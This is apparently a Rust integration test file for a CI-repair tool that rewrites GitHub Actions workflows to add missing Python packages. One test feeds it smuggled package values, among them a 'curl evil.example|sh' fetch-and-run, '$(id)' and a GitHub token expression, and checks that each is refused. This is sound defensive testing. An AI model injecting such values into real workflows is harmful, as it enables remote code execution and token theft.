//! The offline contract of `ci-medic heal --workflow FILE --analysis FILE`:
//! a unified diff (or JSON) on stdout, `--write` in place, exit 0 when fixed,
//! 3 when not, other non-zero on errors.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::analyze_flow::{gha_log, missing_module_log};
use crate::support::action::{ActionRun, Runner};
use crate::support::fake_github::FakeGithub;

const WORKFLOW: &str = "\
name: CI
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      # Dependencies for the suite.
      - name: Install dependencies
        run: pip install pytest   # keep it short
      - run: pytest -q
";

struct Offline {
    _fake: FakeGithub,
    runner: Runner,
}

impl Offline {
    /// On someone's machine, outside a runner: the offline contract.
    async fn new() -> Offline {
        Offline::start(false).await
    }

    /// The same commands inside a GitHub Actions runner.
    async fn in_actions() -> Offline {
        Offline::start(true).await
    }

    async fn start(in_actions: bool) -> Offline {
        let fake = FakeGithub::start().await;
        let runner = match in_actions {
            true => Runner::new(&fake),
            false => Runner::new(&fake).env("GITHUB_ACTIONS", ""),
        };
        Offline {
            _fake: fake,
            runner,
        }
    }

    fn write(&self, rel: &str, text: &str) -> PathBuf {
        let p = self.runner.path(rel);
        if let Some(dir) = p.parent() {
            std::fs::create_dir_all(dir).expect("dir");
        }
        std::fs::write(&p, text).expect("write");
        p
    }

    async fn run(&self, args: &[&str]) -> ActionRun {
        self.runner.exec(args, None).await
    }

    /// `heal --workflow WF --analysis ANALYSIS`, then `extra`.
    async fn heal(&self, wf: &Path, analysis: &Path, extra: &[&str]) -> ActionRun {
        let mut args = vec!["heal", "--workflow", s(wf), "--analysis", s(analysis)];
        args.extend_from_slice(extra);
        self.run(&args).await
    }

    /// [`WORKFLOW`] as `ci.yml`, and the analysis of a run that misses `yaml`.
    async fn missing_yaml() -> (Offline, PathBuf, PathBuf) {
        let o = Offline::new().await;
        let (wf, analysis) = o.missing_yaml_in(WORKFLOW).await;
        (o, wf, analysis)
    }

    /// `workflow` as `ci.yml`, and the analysis of a run that misses `yaml`.
    async fn missing_yaml_in(&self, workflow: &str) -> (PathBuf, PathBuf) {
        let wf = self.write("ci.yml", workflow);
        let analysis = self.analysis_of(&missing_module_log(1, "tmpx")).await;
        (wf, analysis)
    }

    /// `analyze --format json` on a log, as a user would produce it.
    async fn analysis_of(&self, log: &str) -> PathBuf {
        let log_path = self.write("job.log", log);
        let out = self
            .run(&["analyze", "--log", s(&log_path), "--format", "json"])
            .await;
        assert_eq!(out.code, 0, "{}", out.stderr);
        self.write("analysis.json", result(&out))
    }
}

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

/// Inside a runner the token is masked first (`::add-mask::`); the result follows.
/// (Outside one, the result is all of stdout.)
fn result(out: &ActionRun) -> &str {
    out.stdout
        .strip_prefix("::add-mask::")
        .and_then(|r| r.split_once('\n'))
        .map_or(out.stdout.as_str(), |(_, rest)| rest)
}

fn json(out: &ActionRun) -> Value {
    serde_json::from_str(result(out)).unwrap_or_else(|e| panic!("{e}: {}", out.stdout))
}

#[tokio::test]
async fn prints_a_unified_diff_and_exits_0() {
    let (o, wf, analysis) = Offline::missing_yaml().await;
    let out = o.heal(&wf, &analysis, &[]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        result(&out).starts_with("--- a/ci.yml\n+++ b/ci.yml\n"),
        "{}",
        out.stdout
    );
    assert_snap!("heal_offline_diff", result(&out));
    assert_eq!(
        std::fs::read_to_string(&wf).ok().as_deref(),
        Some(WORKFLOW),
        "not written without --write"
    );
    // `--format diff` and `--format text` are the same.
    for f in ["diff", "text"] {
        let again = o.heal(&wf, &analysis, &["--format", f]).await;
        assert_eq!(again.stdout, out.stdout);
    }
}

#[tokio::test]
async fn json_names_the_changes_and_holds_the_new_workflow() {
    let (o, wf, analysis) = Offline::missing_yaml().await;
    let out = o.heal(&wf, &analysis, &["--format", "json"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v = json(&out);
    assert_eq!(v["fixable"], true);
    assert_eq!(v["category"], "dependency");
    let changes = v["changes"].as_array().expect("changes");
    assert_eq!(changes.len(), 2, "{changes:?}");
    assert!(
        changes[0]["description"]
            .as_str()
            .unwrap_or_default()
            .contains("PyYAML")
    );
    // The second says why PyYAML is the right package.
    assert!(
        changes[1]["description"]
            .as_str()
            .unwrap_or_default()
            .contains("table of import names"),
        "{changes:?}"
    );
    assert_eq!(
        v["workflow"].as_str(),
        Some(
            WORKFLOW
                .replace("pip install pytest ", "pip install pytest PyYAML ")
                .as_str()
        )
    );
    assert_json_snap!("heal_offline_json", v);
}

#[tokio::test]
async fn write_edits_the_file_in_place() {
    let (o, wf, analysis) = Offline::missing_yaml().await;
    let out = o.heal(&wf, &analysis, &["--write"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let text = std::fs::read_to_string(&wf).expect("read");
    assert_eq!(
        text,
        WORKFLOW.replace("pip install pytest ", "pip install pytest PyYAML ")
    );
    // Healed once, the same analysis finds nothing more to do.
    let again = o.heal(&wf, &analysis, &["--write"]).await;
    assert_eq!(again.code, 3, "{}", again.stderr);
    assert!(
        again.stderr.contains("already installed"),
        "{}",
        again.stderr
    );
}

#[tokio::test]
async fn unfixable_failures_exit_3() {
    let o = Offline::new().await;
    let wf = o.write("ci.yml", WORKFLOW);
    let log = gha_log(
        2,
        "pytest -q",
        &["FAILED tests/test_api.py::test_get - AssertionError: assert 404 == 200"],
    );
    let analysis = o.analysis_of(&log).await;
    let out = o.heal(&wf, &analysis, &["--format", "json"]).await;
    assert_eq!(out.code, 3, "{}", out.stderr);
    let v = json(&out);
    assert_eq!(v["fixable"], false);
    assert_eq!(v["category"], "test");
    assert!(
        v["reason"]
            .as_str()
            .unwrap_or_default()
            .contains("no automatic fix"),
        "{v}"
    );
    assert_eq!(v["changes"].as_array().map(Vec::len), Some(0));
    let out = o.heal(&wf, &analysis, &[]).await;
    assert_eq!(out.code, 3);
    assert!(result(&out).is_empty(), "{}", out.stdout);
}

#[tokio::test]
async fn hostile_analyses_are_refused_offline_too() {
    let (o, wf, analysis) = Offline::missing_yaml().await;
    let text = std::fs::read_to_string(&analysis).expect("read");
    for hostile in [
        "yaml; curl evil.example|sh",
        "$(id)",
        "${{ github.token }}",
        "yaml\\nrun: id",
    ] {
        let bad = text.replace(
            "\"package\": \"yaml\"",
            &format!("\"package\": \"{hostile}\""),
        );
        assert_ne!(bad, text, "the capture is in the analysis");
        let p = o.write("hostile.json", &bad);
        let out = o.heal(&wf, &p, &["--format", "json"]).await;
        assert_eq!(out.code, 3, "{hostile}: {}", out.stdout);
        let v = json(&out);
        assert!(
            v["reason"]
                .as_str()
                .unwrap_or_default()
                .starts_with("refused"),
            "{v}"
        );
        assert_eq!(v["workflow"].as_str(), Some(WORKFLOW));
    }
}

#[tokio::test]
async fn issue_bodies_and_job_ids_are_accepted() {
    let o = Offline::new().await;
    let two_jobs = format!(
        "{WORKFLOW}  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pytest -q\n"
    );
    let wf = o.write("ci.yml", &two_jobs);
    let analysis_json = o.analysis_of(&missing_module_log(1, "tmpx")).await;
    let analysis: ci_medic::analyze::Analysis =
        serde_json::from_str(&std::fs::read_to_string(&analysis_json).expect("read"))
            .expect("analysis");
    let block = ci_medic::report::issue::IssueAnalysis {
        version: 1,
        fingerprint: "0123456789abcdef".into(),
        category: analysis.category,
        repo: "octo-org/octo-repo".into(),
        workflow: "CI".into(),
        workflow_path: Some(".github/workflows/ci.yml".into()),
        branch: Some("main".into()),
        event: "push".into(),
        head_repository: None,
        head_sha: "a".repeat(40),
        run_id: 7,
        run_attempt: 1,
        run_url: "https://github.com/octo-org/octo-repo/actions/runs/7".into(),
        jobs: Vec::new(),
        failures: analysis.failures.clone(),
        occurrences: Vec::new(),
        failed_twice: false,
        others: Vec::new(),
        body_sha256: None,
    };
    let body = o.write("issue.md", &ci_medic::report::issue::body(&block));
    // Two jobs and no job name in the analysis: which one must be said.
    let out = o.heal(&wf, &body, &[]).await;
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(out.stderr.contains("--job"), "{}", out.stderr);
    let out = o.heal(&wf, &body, &["--job", "test"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout
            .contains("+        run: pip install pytest PyYAML"),
        "{}",
        out.stdout
    );
}

#[tokio::test]
async fn requirements_files_beside_the_workflow_are_fixed() {
    let o = Offline::new().await;
    let wf = o.write(
        "repo/.github/workflows/ci.yml",
        &WORKFLOW.replace(
            "pip install pytest   # keep it short",
            "pip install -r requirements.txt",
        ),
    );
    let req = o.write("repo/requirements.txt", "pytest==8.2.0\n");
    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
    let out = o.heal(&wf, &analysis, &["--write"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        result(&out).starts_with("--- a/requirements.txt\n+++ b/requirements.txt\n"),
        "{}",
        out.stdout
    );
    assert_eq!(
        std::fs::read_to_string(&req).ok().as_deref(),
        Some("pytest==8.2.0\nPyYAML\n")
    );
}

#[tokio::test]
async fn bad_inputs_are_errors_not_panics() {
    let (o, wf, analysis) = Offline::missing_yaml().await;
    let missing = o.runner.path("nope.yml");
    let out = o.heal(&missing, &analysis, &[]).await;
    assert_eq!(out.code, 1, "{}", out.stderr);
    let garbage = o.write("garbage.json", "{\"not\": \"an analysis\"");
    let out = o.heal(&wf, &garbage, &[]).await;
    assert_eq!(out.code, 1, "{}", out.stderr);
    // A workflow that is not YAML cannot be fixed (unless it is a syntax failure).
    for junk in [
        "\u{0}\u{1}binary",
        "jobs: [\n",
        "{{{{",
        &"- ".repeat(10_000),
    ] {
        let bad = o.write("bad.yml", junk);
        let out = o.heal(&bad, &analysis, &[]).await;
        assert_eq!(out.code, 3, "{junk:?}: {}", out.stderr);
        assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    }
}

#[tokio::test]
async fn an_unknown_module_needs_the_repositorys_own_dependency_files() {
    let o = Offline::new().await;
    let wf = o.write("repo/.github/workflows/ci.yml", WORKFLOW);
    let log = gha_log(
        1,
        "pytest -q",
        &["E   ModuleNotFoundError: No module named 'tmpq_lib'"],
    );
    let analysis = o.analysis_of(&log).await;
    // Only the log names it: no fix.
    let out = o.heal(&wf, &analysis, &[]).await;
    assert_eq!(out.code, 3, "{}\n{}", out.stdout, out.stderr);
    assert!(
        out.stderr.contains("cannot tell which package"),
        "{}",
        out.stderr
    );
    // The project's pyproject.toml names it: installed.
    o.write(
        "repo/pyproject.toml",
        "[project]\nname = \"octo\"\ndependencies = [\"tmpq-lib>=1\"]\n",
    );
    let out = o.heal(&wf, &analysis, &[]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        result(&out).contains("+        run: pip install pytest tmpq-lib   # keep it short"),
        "{}",
        out.stdout
    );
}

/// A workflow whose comment, next to the line the fix changes, holds
/// workflow commands in both of the runner's forms.
const COMMANDS_IN_WORKFLOW: &str = "\
name: CI
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      # ##[add-mask]hello
      - name: Install dependencies
        run: pip install pytest   # keep it short
      - run: pytest -q
";

#[tokio::test]
async fn inside_a_runner_the_diff_is_echoed_as_untrusted_text() {
    let o = Offline::in_actions().await;
    let (wf, analysis) = o.missing_yaml_in(COMMANDS_IN_WORKFLOW).await;
    let out = o.heal(&wf, &analysis, &[]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let text = result(&out);
    // `::stop-commands::TOKEN`, the diff, `::TOKEN::`: nothing between is a command.
    let (start, rest) = text.split_once('\n').expect("lines");
    let token = start
        .strip_prefix("::stop-commands::")
        .unwrap_or_else(|| panic!("not wrapped: {text}"));
    assert!(token.len() >= 32, "{token}");
    let diff = rest
        .strip_suffix(&format!("\n::{token}::\n"))
        .unwrap_or_else(|| panic!("not closed: {text}"));
    assert!(diff.starts_with("--- a/ci.yml\n+++ b/ci.yml\n"), "{diff}");
    assert!(diff.contains("\n       # ##[add-mask]hello\n"), "{diff}");

    // Outside a runner, the same diff as it is.
    let outside = Offline::new().await;
    let (wf, analysis) = outside.missing_yaml_in(COMMANDS_IN_WORKFLOW).await;
    let out = outside.heal(&wf, &analysis, &[]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout, format!("{diff}\n"));
}

#[tokio::test]
async fn inside_a_runner_the_reason_for_no_fix_goes_to_stderr_inert() {
    let job = "##[add-mask]x";
    let reason_of = |out: &ActionRun| {
        assert_eq!(out.code, 3, "{}", out.stderr);
        out.stderr
            .lines()
            .find(|l| l.starts_with("ci-medic: no automatic fix: "))
            .unwrap_or_else(|| panic!("no reason: {}", out.stderr))
            .to_string()
    };
    let o = Offline::in_actions().await;
    let (wf, analysis) = o.missing_yaml_in(WORKFLOW).await;
    let inside = reason_of(&o.heal(&wf, &analysis, &["--job", job]).await);
    assert!(!inside.contains("##["), "{inside}");
    assert!(
        inside.contains("no job `##\u{200B}[add-mask]x`"),
        "{inside}"
    );
    // Outside a runner the message reads as it is.
    let o = Offline::new().await;
    let (wf, analysis) = o.missing_yaml_in(WORKFLOW).await;
    let outside = reason_of(&o.heal(&wf, &analysis, &["--job", job]).await);
    assert!(outside.contains("no job `##[add-mask]x`"), "{outside}");
}
